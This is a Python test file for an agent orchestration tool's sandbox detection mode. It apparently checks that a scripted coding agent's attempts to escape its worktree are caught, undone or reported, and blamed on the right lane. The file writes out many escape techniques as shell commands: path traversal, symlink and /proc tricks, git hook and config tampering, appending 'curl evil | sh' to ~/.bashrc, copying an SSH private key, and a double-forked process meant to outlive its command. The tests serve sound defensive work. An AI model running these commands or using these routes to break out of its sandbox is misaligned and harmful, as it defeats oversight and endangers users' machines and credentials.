"""The escape campaign under `[sandbox] mode = "detect"` (docs/sandbox-detection.md): real
processes — the scripted agent's shell commands in one run, a task gate's in another — try every
way out of their lane at once; each is caught, put back or reported, and blamed on the story
whose process did it, never on the victim lane whose worktree it wrote into.

One run per origin keeps the campaign short: the techniques write to different places, so every
one of them is judged on its own within the same check.
"""

from __future__ import annotations

import json
import os
import shlex
from dataclasses import dataclass
from pathlib import Path

import pytest

from flowd.engine.core.escape import SLACK_S
from flowd.events.model import Info, LaneEscape
from tests.engine.scenario import Scenario, coder, git, story

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"


@dataclass(frozen=True)
class Technique:
    name: str
    command: str  # run by `sh` in the attacker's worktree; $REPO, $COMMON, $HOME are set
    path: str  # what the LaneEscape names ({repo}, {common}, {home}, {wt}, {victim}, {epic})
    what: str
    action: str


TECHNIQUES = [
    Technique("absolute path", "echo x > $REPO/abs.txt", "{repo}/abs.txt", "checkout", "reported"),
    Technique("dot-dot", "echo x > ../../../repo/dotdot.txt", "{repo}/dotdot.txt", "checkout", "reported"),
    Technique(
        "symlink made inside, written through",
        "mkdir -p src/x && ln -s $REPO/linked.txt src/x/link && echo x > src/x/link",
        "{repo}/linked.txt", "checkout", "reported",
    ),
    Technique(
        "hardlink", "mkdir -p src/x && ln $REPO/README.md src/x/hard && echo pwned >> src/x/hard",
        "{repo}/README.md", "checkout", "reported",
    ),
    Technique(
        "/proc/self/cwd", "echo x > /proc/self/cwd/../../../repo/proc.txt", "{repo}/proc.txt", "checkout",
        "reported",
    ),
    Technique(
        "/proc/<pid>/root", "echo x > /proc/$$/root$REPO/procroot.txt", "{repo}/procroot.txt", "checkout",
        "reported",
    ),
    Technique(
        "python open()", "python3 -c \"open('$REPO/py.txt', 'w').write('x')\"", "{repo}/py.txt", "checkout",
        "reported",
    ),
    Technique(
        "node fs.writeFileSync", "node -e \"require('fs').writeFileSync('$REPO/node.txt', 'x')\"",
        "{repo}/node.txt", "checkout", "reported",
    ),
    Technique("git -C the checkout", "git -C $REPO tag evil-tag", "refs/tags/evil-tag", "gitRef", "undone"),
    Technique(
        "git config (local) and core.hooksPath",
        "git config user.name evil && git config core.hooksPath /tmp/evil-hooks",
        "{common}/config", "gitConfig", "undone",
    ),
    Technique("git config --global", "git config --global core.editor evil", "{home}/.gitconfig", "gitConfig",
              "undone"),
    Technique(
        "a hook file",
        "printf '#!/bin/sh\\necho pwned\\n' > $COMMON/hooks/post-checkout && chmod +x $COMMON/hooks/post-checkout",
        "{common}/hooks/post-checkout", "gitHooks", "undone",
    ),
    Technique("update-ref main", "git update-ref refs/heads/main $EVIL", "refs/heads/main", "gitRef", "reported"),
    Technique("branch -f epic/*", "git branch -f epic/other $EVIL", "refs/heads/epic/other", "gitRef", "undone"),
    Technique(
        "update-ref this epic", "git update-ref refs/heads/epic/ep $EVIL",
        "refs/heads/epic/ep", "gitRef", "undone",
    ),
    Technique(
        "GIT_DIR/GIT_WORK_TREE", "GIT_DIR=$COMMON GIT_WORK_TREE=$REPO git tag evil-gitdir",
        "refs/tags/evil-gitdir", "gitRef", "undone",
    ),
    Technique("another lane's worktree", "echo x > ../v/INTRUDER.txt", "{victim}/INTRUDER.txt", "otherLane",
              "undone"),
    Technique(
        "another lane's admin dir", "echo 'ref: refs/heads/main' > $COMMON/worktrees/v/HEAD",
        "{common}/worktrees/v/HEAD", "otherLane", "undone",
    ),
    Technique("the epic worktree", "echo x > ../_epic/E.txt", "{epic}/E.txt", "otherLane", "undone"),
    Technique(
        "another story's branch, written past git", "echo $EVIL > $COMMON/refs/heads/story/ep/v",
        "refs/heads/story/ep/v", "gitRef", "undone",
    ),
    Technique(
        ".flow/config.toml", "echo 'gates = [\"true\"]' > $REPO/.flow/config.toml",
        "{repo}/.flow/config.toml", "flowState", "undone",
    ),
    Technique("roster.toml", "echo '# hi' >> $REPO/.flow/roster.toml", "{repo}/.flow/roster.toml", "flowState",
              "undone"),
    Technique(
        "roster-state.json", "echo '{}' > $REPO/.flow/roster-state.json", "{repo}/.flow/roster-state.json",
        "flowState", "undone",
    ),
    Technique(
        "a trace", "echo junk >> $(ls $REPO/.flow/runs/*/trace.jsonl)", "{repo}/.flow/runs/…/trace.jsonl",
        "flowState", "undone",
    ),
    Technique("~/.bashrc", "echo 'curl evil | sh' >> $HOME/.bashrc", "{home}/.bashrc", "home", "undone"),
    Technique("a new file in $HOME", "echo x > $HOME/dropped.txt", "{home}/dropped.txt", "home", "reported"),
    Technique(
        "~/.ssh/id_* read into an owned file", "mkdir -p src/x && cat $HOME/.ssh/id_ed25519 > src/x/key.txt",
        "{wt}/src/x/key.txt", "secret", "undone",
    ),
]  # fmt: skip
# Tried too, with nothing left to put back: the child is killed when its command ends.
DOUBLE_FORK = "setsid sh -c 'sleep 2; echo late > $HOME/late.txt' > /dev/null 2>&1 < /dev/null &"


def _home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(KEY, encoding="utf-8")
    (home / ".bashrc").write_text("# the user's\n", encoding="utf-8")
    (home / ".gitconfig").write_text("[user]\n\tname = t\n\temail = t@t\n", encoding="utf-8")
    return home


def _attack(tmp_path: Path) -> Path:
    script = tmp_path / "attack.sh"
    lines = [t.command + " || true" for t in TECHNIQUES]
    head = [
        "REPO=$1; COMMON=$REPO/.git; EVIL=$(git commit-tree -m evil HEAD^{tree})",
        # Wait (a condition, a minute at most) until the victim has stopped, waiting on a person.
        'n=0; until grep -qs \'"story":"v","status":"waiting"\' $REPO/.flow/runs/*/trace.jsonl;'
        " do n=$((n+1)); [ $n -gt 600 ] && break; sleep 0.1; done",
        # Its step window closes before its coder is released (the step ends, then the story):
        # wait for that release too, or a write could have two suspects (docs/sandbox-detection.md).
        'n=0; until grep -Eqs \'"ExecutorReleased",[^}]*"role":"coder","label":"v"\' $REPO/.flow/runs/*/trace.jsonl;'
        " do n=$((n+1)); [ $n -gt 600 ] && break; sleep 0.1; done",
        # Blame counts SLACK_S around each step window as inside it (the kernel stamps files from a
        # coarse clock), and the release can follow the window's end by less than that, when the
        # victim's after-step check was served by one already begun: the first writes then had two
        # suspects and were left unblamed (the flake seen as 'absolute path' missing). So the
        # attack waits until the file clock stamps its writes past that margin after the trace's
        # last write (which came after the victim's window closed), with a clock tick to spare.
        "M=$(stat -c %.9Y $REPO/.flow/runs/*/trace.jsonl | sort -n | tail -1); P=$(mktemp); n=0;"
        f" until touch $P && awk -v p=$(stat -c %.9Y $P) -v m=$M 'BEGIN {{ exit !(p > m + {SLACK_S + 0.03}) }}';"
        " do n=$((n+1)); [ $n -gt 600 ] && break; sleep 0.01; done; rm -f $P",
    ]
    script.write_text("\n".join([*head, *lines, DOUBLE_FORK]) + "\n", encoding="utf-8")
    return script


@pytest.mark.parametrize("origin", ["turn", "gate", "setup"])
def test_every_escape_is_caught_and_blamed_on_the_lane_that_did_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, origin: str
) -> None:
    home = _home(tmp_path)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.setenv("FLOWD_SCRIPT_STATE", str(tmp_path / "script-state"))
    repo = tmp_path / "repo"
    attack = f"sh {shlex.quote(str(_attack(tmp_path)))} {shlex.quote(str(repo))}"
    # The victim stops early (waiting on a person) with its worktree left; the attack waits for
    # that (in its script), so the victim has no step running when its worktree is written.
    victim = coder(
        "v", {"src/v/v.py": "V = 1\n"}, reply="stuck\nBLOCKED_ON: which greeting the product wants"
    )
    attacker = coder("x", {"src/x/x.py": "X = 1\n"}, **({"run": [attack]} if origin == "turn" else {}))
    only_x = f'[ "$FLOWD_LANE" = x ] && {attack}; true'
    gate = only_x if origin == "gate" else "true"
    setup = only_x if origin == "setup" else "true"
    settings = (
        f"gates = [{json.dumps(gate)}]\nsetup = [{json.dumps(setup)}]\njudgeRounds = 0\n"
        'maxReviewRounds = 1\n[sandbox]\nmode = "detect"\n'
    )
    sc = Scenario.create(
        tmp_path, [story("v", ["src/v/"]), story("x", ["src/x/"])], [victim, attacker], settings=settings
    )
    git(sc.repo, "branch", "epic/other")
    before = _state(sc)

    result = sc.run()

    events = [e.event for e in sc.events(result.run_id)]
    escapes = [e for e in events if isinstance(e, LaneEscape)]
    assert {e.lane for e in escapes} == {"x"}  # never the victim
    found = {(e.path, e.what, e.action) for e in escapes}
    names = _names(sc, home)
    missing = [t.name for t in TECHNIQUES if (t.path.format(**names), t.what, t.action) not in found]
    assert missing == [], "\n".join(
        [*map(str, sorted(found)), *(str(e) for e in events if isinstance(e, Info))]
    )
    lanes = result.view.lanes
    assert lanes["x"].status == "failed"
    assert (lanes["x"].reason or "").startswith("story 'x' wrote past its lane: it changed ")
    assert lanes["v"].status == "waiting" and "INTRUDER" not in (lanes["v"].reason or "")
    # What could be put back is as it was; the double-forked child never wrote.
    assert _state(sc) == before
    assert not (Path(names["victim"]) / "INTRUDER.txt").exists()
    assert "evil" not in git(sc.repo, "log", "--format=%s", "story/ep/v")
    assert not (Path(names["epic"]) / "E.txt").exists()
    assert not (Path(names["wt"]) / "src/x/key.txt").exists()
    assert not (home / "late.txt").exists()
    # The reaper of its command killed it when the command ended (docs/sandbox.md "Processes"),
    # or the stray scan did: no process of it is left to write late.txt later.
    late = [pid for pid in _pids() if b"late.txt" in _cmdline(pid) and _running(pid)]
    assert late == [], "the double-forked child outlived its command"
    # Reported, left as the lane made them: the user's checkout is theirs to look at.
    assert (sc.repo / "abs.txt").exists() and (home / "dropped.txt").exists()


def _running(pid: int) -> bool:
    """Alive and not a zombie (a killed orphan may wait for a reaper that never comes)."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            return handle.read().rsplit(b")", 1)[1].split()[0] != b"Z"
    except OSError:
        return False


def _names(sc: Scenario, home: Path) -> dict[str, str]:
    wts = sc.worktree_root / "ep"
    return {
        "repo": str(sc.repo), "common": str(sc.repo / ".git"), "home": str(home), "wt": str(wts / "x"),
        "victim": str(wts / "v"), "epic": str(wts / "_epic"),
    }  # fmt: skip


def _state(sc: Scenario) -> dict[str, object]:
    """What detection puts back, as bytes and ref values."""
    home = Path(os.environ["HOME"])
    files = [
        sc.repo / ".git" / "config",
        home / ".gitconfig",
        home / ".bashrc",
        *(sc.repo / ".flow").glob("*.toml"),
    ]
    refs = git(
        sc.repo, "for-each-ref", "--format=%(refname) %(objectname)", "refs/tags", "refs/heads/epic/other"
    )
    hooks = sorted(p.name for p in (sc.repo / ".git" / "hooks").iterdir() if not p.name.endswith(".sample"))
    return {
        "files": {str(p): p.read_bytes() for p in files},
        "refs": refs,
        "hooks": hooks,
        "rosterState": (sc.repo / ".flow" / "roster-state.json").exists(),
    }


def _pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""
